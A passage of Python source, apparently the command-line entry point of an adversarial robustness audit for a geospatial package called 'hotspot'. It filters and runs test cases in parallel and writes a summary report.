    parser.add_argument("--jobs", type=int, default=2, help="cases run at once (default 2)")
    parser.add_argument(
        "--heavy",
        action="store_true",
        help="also run the heavy load cases (1M points, 10 MB text, 100k + PNG)",
    )
    parser.add_argument(
        "--only",
        action="append",
        default=[],
        help="run cases whose id contains this text (repeatable)",
    )
    parser.add_argument(
        "--keep", type=Path, help="keep each case's temporary folder under this folder"
    )
    parser.add_argument("--list", action="store_true", help="list the cases and exit")
    args = parser.parse_args(argv)

    cases = [c for c in CASES if args.heavy or not c.heavy]
    if args.only:
        cases = [c for c in cases if any(s in c.id for s in args.only)]
    if args.list:
        for c in CASES:
            print(f"{c.id:34s} {c.group:26s} {'[heavy] ' if c.heavy else ''}{c.title}")
        print(f"{len(CASES)} cases ({sum(c.heavy for c in CASES)} heavy)")
        return 0
    if not args.report:
        parser.error("give the report file to write")

    import hotspot  # imported once; every case is forked from here
    import hotspot.cli
    from hotspot.boundaries import load_control_lines
    from hotspot.geocode import resolve

    HOTSPOT_PKG = Path(hotspot.__file__).resolve().parent
    resolve("Kirkuk")  # warm the default geocoder before forking
    load_control_lines()
    if args.keep:
        args.keep.mkdir(parents=True, exist_ok=True)

    started = time.perf_counter()
    print(
        f"hotspot {hotspot.__version__} from {HOTSPOT_PKG}; {len(cases)} cases, {args.jobs} at a "
        "time",
        flush=True,
    )

    def progress(r: Result) -> None:
        mark = " " if r.category in PASSING else "!"
        print(
            printable(
                f"{mark} {r.seconds:6.1f}s  {r.case.id:34s} {r.category:19s} "
                f"{' '.join(r.reason.split())[:110]}"
            ),
            flush=True,
        )

    results = run_cases(cases, jobs=max(1, args.jobs), keep=args.keep, progress=progress)
    elapsed = time.perf_counter() - started
    counted = [r for r in results if r.category in CATEGORIES]
    head = (
        f"hotspot adversarial audit (issue #15): {len(counted)} cases"
        f"{' (heavy included)' if args.heavy else ''}, {elapsed / 60:.1f} min with {args.jobs} "
        "job(s) "
        f"on {os.cpu_count()} cores; hotspot {hotspot.__version__}, python {sys.version.split()[0]}"
    )
    text = "\n\n".join(
        [
            head,
            table(counted),
            "By group:\n" + group_table(counted),
            "Cases:\n" + listing(results),
            "Reproductions of every case not in {handled, clear error, warning + handled}:\n\n"
            + reproductions(results),
        ]
    )
    args.report.write_text(printable(text) + "\n", encoding="utf-8")
    print("\n" + head + "\n\n" + table(counted) + "\n\nBy group:\n" + group_table(counted))
    print(f"\nreport written to {args.report}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
